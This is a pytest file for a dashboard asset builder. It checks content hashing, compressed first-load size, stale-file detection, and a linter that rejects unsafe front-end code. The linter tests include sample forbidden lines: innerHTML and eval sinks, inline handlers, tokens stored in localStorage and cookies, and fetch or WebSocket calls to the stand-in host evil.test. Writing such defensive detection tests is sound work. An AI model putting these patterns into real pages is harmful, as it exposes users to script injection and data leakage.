"""Issue 18: the assets are what dashboard/ says, and small; nothing in them is what the page's policy stops."""

import json
from pathlib import Path

import brotli
import pytest

from scripts import dashboard as assets
from scripts import dashboard_sources as rules

PAGE = (
    b'<!doctype html><html lang="en"><head><title>T</title><link rel="stylesheet" href="styles.css">'
    b'<script type="module" src="main.js"></script></head><body></body></html>'
)
SOURCES = {
    "index.html": PAGE,
    "styles.css": b"p { color: red; }\n",
    "main.js": b'import { b } from "./lib/b.js";\nimport("./pages/late.js").then(b);\n',
    "lib/b.js": b'import {\n  c,\n} from "../vendor/c.js";\nexport const b = c;\n',
    "vendor/c.js": b"export const c = (p) => { p.innerHTML = 1; };\n",
    "pages/late.js": b'export { b as late } from "../lib/b.js";\n',
}


def test_the_assets_are_current() -> None:
    sources = assets.read()
    assert rules.problems(sources) == []
    assert assets.stale(assets.assembled(sources)) == [], "make dashboard"


@pytest.mark.parametrize("page", ["index.html", "docs.html"])
def test_the_first_load_is_below_80_kilobytes(page: str) -> None:
    made = assets.assembled(assets.read())
    assert made.first[page]  # something is counted: what the page names
    assert 0 < made.first_load_bytes(page) <= 81_920


def test_the_page_names_its_files_below_the_hash_and_the_modules_that_it_waits_for() -> None:
    made = assets.assembled(SOURCES)
    page, prefix = made.pages["index.html"].decode(), f"/dashboard/assets/{made.content_hash}"
    assert f'<link rel="stylesheet" href="{prefix}/styles.css">' in page
    assert f'<script type="module" src="{prefix}/main.js">' in page
    for module in ("main.js", "lib/b.js", "vendor/c.js"):
        assert f'<link rel="modulepreload" href="{prefix}/{module}">' in page
    assert "late.js" not in page  # loaded when somebody goes there
    assert made.first["index.html"] == ("styles.css", "main.js", "lib/b.js", "vendor/c.js")
    counted = (made.pages["index.html"], *(SOURCES[each] for each in made.first["index.html"]))
    assert made.first_load_bytes("index.html") == sum(
        len(brotli.compress(each, mode=1, quality=11)) for each in counted
    )


@pytest.mark.parametrize("name", SOURCES)
def test_whatever_changes_the_hash_changes(name: str) -> None:
    changed = {**SOURCES, name: SOURCES[name] + b"\n"}
    assert assets.assembled(changed).content_hash != assets.assembled(SOURCES).content_hash


def test_a_file_that_is_renamed_changes_the_hash() -> None:
    renamed = {("pages/later.js" if name == "pages/late.js" else name): text for name, text in SOURCES.items()}
    assert assets.assembled(renamed).content_hash != assets.assembled(SOURCES).content_hash


def test_what_is_written_is_not_stale_and_twice_the_same(tmp_path: Path) -> None:
    made = assets.assembled(SOURCES)
    assets.write(made, tmp_path)
    first = {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}
    assert assets.stale(made, tmp_path) == []
    assets.write(made, tmp_path)
    assert {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()} == first
    without = {name: text for name, text in SOURCES.items() if name != "pages/late.js"}
    without["main.js"] = b'import { b } from "./lib/b.js";\nb();\n'
    assets.write(assets.assembled(without), tmp_path)
    assert not (tmp_path / "pages").exists()


def test_another_release_of_a_library_may_pack_otherwise(tmp_path: Path) -> None:
    made = assets.assembled(SOURCES)
    assets.write(made, tmp_path)
    (tmp_path / "main.js.br").write_bytes(brotli.compress(SOURCES["main.js"], quality=1))
    assert assets.stale(made, tmp_path) == []


@pytest.mark.parametrize("how", ["changed", "broken", "missing", "too many", "manifest"])
def test_what_is_stale_is_told(tmp_path: Path, how: str) -> None:
    made = assets.assembled(SOURCES)
    assets.write(made, tmp_path)
    if how == "manifest":
        manifest = tmp_path / "manifest.json"
        manifest.write_text(json.dumps(json.loads(manifest.read_text()) | {"hash": "0" * 16}))
    path = tmp_path / {"too many": "old.js.br", "manifest": "manifest.json"}.get(how, "lib/b.js.br")
    if how == "missing":
        path.unlink()
    elif how != "manifest":
        path.write_bytes(b"no brotli" if how == "broken" else brotli.compress(b"export const b = 2;\n"))
    assert assets.stale(made, tmp_path) == [path.relative_to(tmp_path).as_posix()]


@pytest.mark.parametrize("name", ["a b.js", "picture.gif", ".hidden.js", "manifest.json"])
def test_a_file_that_cannot_be_served_is_refused(tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_text("")
    with pytest.raises(ValueError, match="nothing that is served"):
        assets.read(tmp_path)


# --- what the sources may not say ----------------------------------------------------------------------------------


def test_sources_that_keep_the_rules_have_no_problem() -> None:
    fine = b"""
// https://datatracker.ietf.org/doc/html/rfc7636 says why
const SVG = "http://www.w3.org/2000/svg";
const sample = html`<input placeholder="https://example.com/hook" onInput=${(e) => set(e.target.value)} />`;
const curl = `curl ${location.origin}/v1/customers`;
const list = html`<${List} only="open" onSubmit=${send} />`;
const bar = html`<i style=${{ width }}></i>`;
const month = new Intl.DateTimeFormat("en").format(0);
"""
    assert (
        rules.problems({**SOURCES, "lib/fine.js": fine, "lib/session.js": b'sessionStorage.setItem("v", "1");\n'}) == []
    )


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ("p.innerHTML = x;", "text that becomes HTML"),
        ("p.outerHTML = x;", "text that becomes HTML"),
        ("p.insertAdjacentHTML('beforeend', x);", "text that becomes HTML"),
        ("document.write(x);", "text that becomes HTML"),
        ("html`<p dangerouslySetInnerHTML=${x} />`", "text that becomes HTML"),
        ("html`<iframe srcdoc=${x} />`", "text that becomes HTML"),
        ("eval(x);", "text that becomes code"),
        ("new Function(x);", "text that becomes code"),
        ("html`<a href='javascript:x()'>a</a>`", "text that becomes code"),
        ('html`<p style="color:red">a</p>`', "a style in an attribute"),
        ("p.setAttribute('style', x);", "a style in an attribute"),
        ('html`<p onclick="x()">a</p>`', "a handler in an attribute"),
        ('html`<p onClick="x()">a</p>`', "a handler in an attribute"),
        ("localStorage.setItem('token', x);", "something kept in the browser"),
        ("sessionStorage.token = x;", "something kept in the browser"),
        ("document.cookie = x;", "something kept in the browser"),
        ("new Intl.NumberFormat('en').format(x);", "the browser's digits"),
        ("x.toLocaleString();", "the browser's digits"),
        ('fetch("https://evil.test/x");', "an address elsewhere"),
        ("fetch(`//evil.test/${x}`);", "an address elsewhere"),
        ('new WebSocket("wss://evil.test");', "an address elsewhere"),
        ('import { x } from "./none.js";', "an import that names no file"),
        ('import "./none.js";', "an import that names no file"),
        ('export * from "./none.js";', "an import that names no file"),
        ('import { x } from "preact";', "an import that names no file"),
        ('import("./none.js").then(x);', "an import that names no file"),
        ("import(`./pages/${x}.js`).then(x);", "an import that names no file"),
    ],
)
def test_what_a_module_may_not_say_is_told_with_its_line(line: str, said: str) -> None:
    (found,) = rules.problems({**SOURCES, "ui/bad.js": f"\n{line}\n".encode()})
    assert found.startswith("ui/bad.js:")
    assert said in found


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("<style>p { color: red }</style>", "a style sheet in the page"),
        ("<script>x()</script>", "a script"),
        ('<script src="main.js"></script>', "no module"),
        ('<p style="color: red">', "a style in an attribute"),
        ('<body onload="x()">', "a handler in an attribute"),
        ('<link rel="icon" href="icon.svg">', "icon.svg is no file"),
        ('<img src="https://evil.test/x.svg">', "an address elsewhere"),
    ],
)
def test_what_the_page_may_not_have_is_told(text: str, said: str) -> None:
    found = rules.problems({**SOURCES, "index.html": PAGE.replace(b"<body>", f"<body>{text}".encode())})
    assert any(said in each for each in found), found


def test_a_style_sheet_fetches_nothing_from_elsewhere() -> None:
    (found,) = rules.problems({**SOURCES, "styles.css": b"p { background: url(https://evil.test/x.png) }\n"})
    assert "an address elsewhere" in found


def test_a_circle_of_imports_is_told_once() -> None:
    circle = {"ui/a.js": b'import "./b.js";\n', "ui/b.js": b'import "./a.js";\n'}
    (found,) = rules.problems({**SOURCES, **circle})
    assert "ui/a.js -> ui/b.js -> ui/a.js" in found
